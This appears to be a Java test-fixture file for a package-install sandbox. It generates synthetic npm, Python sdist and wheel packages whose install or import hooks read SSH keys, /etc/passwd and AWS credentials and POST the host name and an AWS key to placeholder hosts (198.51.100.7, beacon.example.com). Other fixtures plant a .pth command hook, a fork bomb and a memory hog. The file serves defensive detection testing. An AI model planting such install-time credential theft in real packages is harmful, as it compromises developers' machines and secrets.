package dev.airlock.sandbox;

import java.io.IOException;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * Synthetic packages for the sandbox tests. The "malicious" ones only aim at documentation addresses
 * (198.51.100.0/24) and reserved names (.example.com), and only ever run inside the sandbox.
 */
final class SandboxFixtures {
    static final String BEACON = "beacon.example.com";
    static final String TARGET = "198.51.100.7";
    static final int PORT = 8080;

    private SandboxFixtures() {
    }

    static Path npm(Path dir, String name, Map<String, String> scripts, Map<String, String> files) throws IOException {
        return npm(dir, name, scripts, files, null);
    }

    /** As above; {@code extraJson} is more package.json members (e.g. a bin map), or null. */
    static Path npm(Path dir, String name, Map<String, String> scripts, Map<String, String> files, String extraJson)
            throws IOException {
        StringBuilder json = new StringBuilder("{\"name\":\"" + name + "\",\"version\":\"1.0.0\",\"main\":\"index.js\",\"scripts\":{");
        String sep = "";
        for (Map.Entry<String, String> s : scripts.entrySet()) {
            json.append(sep).append('"').append(s.getKey()).append("\":\"").append(s.getValue().replace("\"", "\\\"")).append('"');
            sep = ",";
        }
        json.append("}").append(extraJson == null ? "" : "," + extraJson).append("}\n");
        Map<String, String> entries = new LinkedHashMap<>();
        entries.put("package/package.json", json.toString());
        entries.put("package/index.js", "module.exports = {};\n");
        files.forEach((k, v) -> entries.put("package/" + k, v));
        return Archives.tarGz(dir.resolve(name.replace('/', '-').replace("@", "") + "-1.0.0.tgz"), entries);
    }

    /** postinstall: reads /etc/passwd and the planted SSH key, runs whoami, resolves a name, POSTs the host name. */
    static Path maliciousNpm(Path dir) throws IOException {
        String script = String.join("\n",
                "const fs = require('fs'), os = require('os'), cp = require('child_process');",
                "const dns = require('dns'), http = require('http');",
                "try { fs.readFileSync('/etc/passwd'); } catch (e) {}",
                "try { fs.readFileSync(os.homedir() + '/.ssh/id_rsa'); } catch (e) {}",
                "cp.execSync('whoami');",
                "dns.lookup('" + BEACON + "', (err, address) => {",
                "  http.get({host: '" + BEACON + "', port: 80, path: '/ping'}, (res) => res.resume()).on('error', () => {});",
                "  const req = http.request({host: '" + TARGET + "', port: " + PORT + ", method: 'POST', path: '/c'},",
                "    (res) => res.resume());",
                "  req.on('error', () => {});",
                "  req.end(os.hostname() + ' ' + (process.env.AWS_ACCESS_KEY_ID || ''));",
                "});",
                "");
        return npm(dir, "airlock-fixture-evil", Map.of("postinstall", "node postinstall.js"),
                Map.of("postinstall.js", script));
    }

    static Path maliciousSdist(Path dir) throws IOException {
        String setup = String.join("\n",
                "import os, socket, subprocess, http.client",
                "from setuptools import setup",
                "try:",
                "    open('/etc/passwd').read()",
                "    open(os.path.expanduser('~/.ssh/id_rsa')).read()",
                "except OSError:",
                "    pass",
                "subprocess.run(['whoami'], check=False)",
                "try:",
                "    socket.gethostbyname('" + BEACON + "')",
                "except OSError:",
                "    pass",
                "try:",
                "    c = http.client.HTTPConnection('" + TARGET + "', " + PORT + ", timeout=3)",
                "    c.request('POST', '/c', body=socket.gethostname())",
                "    c.getresponse().read()",
                "except OSError:",
                "    pass",
                "setup(name='airlock_fixture_evil', version='1.0.0', py_modules=['airlock_fixture_evil'])",
                "");
        String root = "airlock_fixture_evil-1.0.0/";
        Map<String, String> files = new LinkedHashMap<>();
        files.put(root + "setup.py", setup);
        files.put(root + "PKG-INFO", "Metadata-Version: 2.1\nName: airlock_fixture_evil\nVersion: 1.0.0\n");
        files.put(root + "airlock_fixture_evil.py", "X = 1\n");
        return Archives.tarGz(dir.resolve("airlock_fixture_evil-1.0.0.tar.gz"), files);
    }

    /**
     * A wheel that does nothing on install, reads the AWS credentials file when imported, and ships a
     * {@code .pth} hook that runs a command whenever Python starts with it on the path.
     */
    static Path importTimeWheel(Path dir) throws IOException {
        String info = "airlock_fixture_wheel-1.0.0.dist-info/";
        Map<String, String> files = new LinkedHashMap<>();
        files.put("airlock_fixture_wheel/__init__.py",
                "import os\ntry:\n    open(os.path.expanduser('~/.aws/credentials')).read()\nexcept OSError:\n    pass\n");
        files.put("airlock_fixture_wheel_hook.pth", "import os; os.system('id -un')\n");
        files.put(info + "METADATA", "Metadata-Version: 2.1\nName: airlock-fixture-wheel\nVersion: 1.0.0\n");
        files.put(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: airlock\nRoot-Is-Purelib: true\nTag: py3-none-any\n");
        files.put(info + "top_level.txt", "airlock_fixture_wheel\n");
        files.put(info + "RECORD", "");
        return Archives.zip(dir.resolve("airlock_fixture_wheel-1.0.0-py3-none-any.whl"), files);
    }

    /** Differs from the baseline package in name and code, but does nothing a developer would mind. */
    static Path harmlessNpm(Path dir) throws IOException {
        return npm(dir, "airlock-fixture-harmless", Map.of("postinstall", "node setup.js"),
                Map.of("setup.js", "const util = require('util');\nconsole.log(util.format('%s ready', 'fixture'));\n",
                        "index.js", "module.exports = (a, b) => a + b;\n"));
    }

    static Path endlessNpm(Path dir) throws IOException {
        return npm(dir, "airlock-fixture-loop", Map.of("postinstall", "node -e \"for (;;) {}\""), Map.of());
    }

    /**
     * Forks sleeping children until fork fails; exits 3 when the process limit stopped it, 4 when it
     * created 5000 processes without hitting any limit.
     */
    static Path forkBombNpm(Path dir) throws IOException {
        String script = String.join("\n",
                "import os, sys, time",
                "for n in range(5000):",
                "    try:",
                "        if os.fork() == 0:",
                "            time.sleep(600)",
                "            os._exit(0)",
                "    except OSError:",
                "        print('fork failed after', n, 'children', flush=True)",
                "        sys.exit(3)",
                "sys.exit(4)",
                "");
        return npm(dir, "airlock-fixture-forks", Map.of("postinstall", "python3 forks.py"), Map.of("forks.py", script));
    }

    static Path memoryHogNpm(Path dir) throws IOException {
        String script = "const a = []; for (;;) { a.push(Buffer.alloc(64 * 1024 * 1024, 1)); }\n";
        return npm(dir, "airlock-fixture-hog", Map.of("postinstall", "node hog.js"), Map.of("hog.js", script));
    }

    private static Map<String, String> wheelFiles(String module, String project, String version, String tag,
                                                  String requires, Map<String, String> code) {
        String info = module + "-" + version + ".dist-info/";
        Map<String, String> files = new LinkedHashMap<>(code);
        files.put(info + "METADATA", "Metadata-Version: 2.1\nName: " + project + "\nVersion: " + version + "\n"
                + (requires == null ? "" : "Requires-Dist: " + requires + "\n"));
        files.put(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: airlock\nRoot-Is-Purelib: true\nTag: " + tag + "\n");
        files.put(info + "top_level.txt", module + "\n");
        files.put(info + "RECORD", "");
        return files;
    }

    /** A wheel whose module does nothing on import; its exported function reads the AWS key and looks up the beacon. */
    static Path calledOnlyWheel(Path dir) throws IOException {
        String code = String.join("\n",
                "import os, socket",
                "def sync():",
                "    try:",
                "        open(os.path.expanduser('~/.aws/credentials')).read()",
                "        socket.gethostbyname('" + BEACON + "')",
                "    except OSError:",
                "        pass",
                "");
        return Archives.zip(dir.resolve("airlock_fixture_called-1.0.0-py3-none-any.whl"), wheelFiles("airlock_fixture_called",
                "airlock-fixture-called", "1.0.0", "py3-none-any", null, Map.of("airlock_fixture_called/__init__.py", code)));
    }

    /** An npm package whose export reads the SSH key only when called, and whose bin runs a command only when run. */
    static Path calledOnlyNpm(Path dir) throws IOException {
        return npm(dir, "airlock-fixture-called", Map.of(), Map.of(
                "index.js", "const fs = require('fs'); const os = require('os');\n"
                        + "exports.report = function () { try { fs.readFileSync(os.homedir() + '/.ssh/id_rsa'); } catch (e) {} };\n",
                "cli.js", "#!/usr/bin/env node\nrequire('child_process').execFileSync('id', ['-un']);\n"),
                "\"bin\": {\"airlock-called\": \"cli.js\"}");
    }

    /** A wheel that needs airlock-fixture-dep to import; the dependency looks up the beacon when imported. */
    static Path dependentWheel(Path dir) throws IOException {
        return Archives.zip(dir.resolve("airlock_fixture_user-1.0.0-py3-none-any.whl"), wheelFiles("airlock_fixture_user",
                "airlock-fixture-user", "1.0.0", "py3-none-any", "airlock-fixture-dep",
                Map.of("airlock_fixture_user/__init__.py", "import airlock_fixture_dep\n")));
    }

    static Path dependencyWheel(Path dir) throws IOException {
        return Archives.zip(dir.resolve("airlock_fixture_dep-1.0.0-py3-none-any.whl"), wheelFiles("airlock_fixture_dep",
                "airlock-fixture-dep", "1.0.0", "py3-none-any", null, Map.of("airlock_fixture_dep/__init__.py",
                        "import socket\ntry:\n    socket.gethostbyname('" + BEACON + "')\nexcept OSError:\n    pass\n")));
    }

    /** A wheel tagged for Windows only, which pip refuses on Linux; its module reads the AWS key on import. */
    static Path windowsOnlyWheel(Path dir) throws IOException {
        return Archives.zip(dir.resolve("airlock_fixture_win-1.0.0-cp311-cp311-win_amd64.whl"), wheelFiles("airlock_fixture_win",
                "airlock-fixture-win", "1.0.0", "cp311-cp311-win_amd64", null, Map.of("airlock_fixture_win/__init__.py",
                        "import os\ntry:\n    open(os.path.expanduser('~/.aws/credentials')).read()\nexcept OSError:\n    pass\n")));
    }
}
